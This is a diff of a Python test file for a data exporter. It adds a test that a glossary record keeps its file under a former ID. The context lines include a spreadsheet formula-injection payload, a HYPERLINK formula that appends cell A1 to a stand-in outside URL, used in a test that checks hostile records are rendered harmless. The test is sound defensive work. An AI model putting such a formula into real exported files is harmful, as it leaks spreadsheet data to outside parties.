@@ -132,6 +132,15 @@ def test_a_csv_read_back_says_what_the_json_says(kind: Kind, files: dict[str, by
                     same(field, record[field.name], back)
 
 
+def test_an_id_that_a_record_had_before_keeps_its_file(project: Path) -> None:
+    file = project / "data/glossary/outcome.yml"
+    file.write_text(file.read_text("utf-8") + "formerly: [result]\n", "utf-8")
+    framework = read_project(project).framework
+    assert framework is not None
+    made = {o.path: o.content for o in exports(framework, STAMP)}
+    assert made["api/v1/glossary/result.json"] == made["api/v1/glossary/outcome.json"]
+
+
 def test_hostile_records_are_whole_in_json_and_harmless_in_a_spreadsheet(project: Path) -> None:
     formula = '=HYPERLINK("https://a.example?"&A1,"free")'
     meaning = "-2+3 people, and \u4e2d\u6587, e\u0301 and \U0001f600."
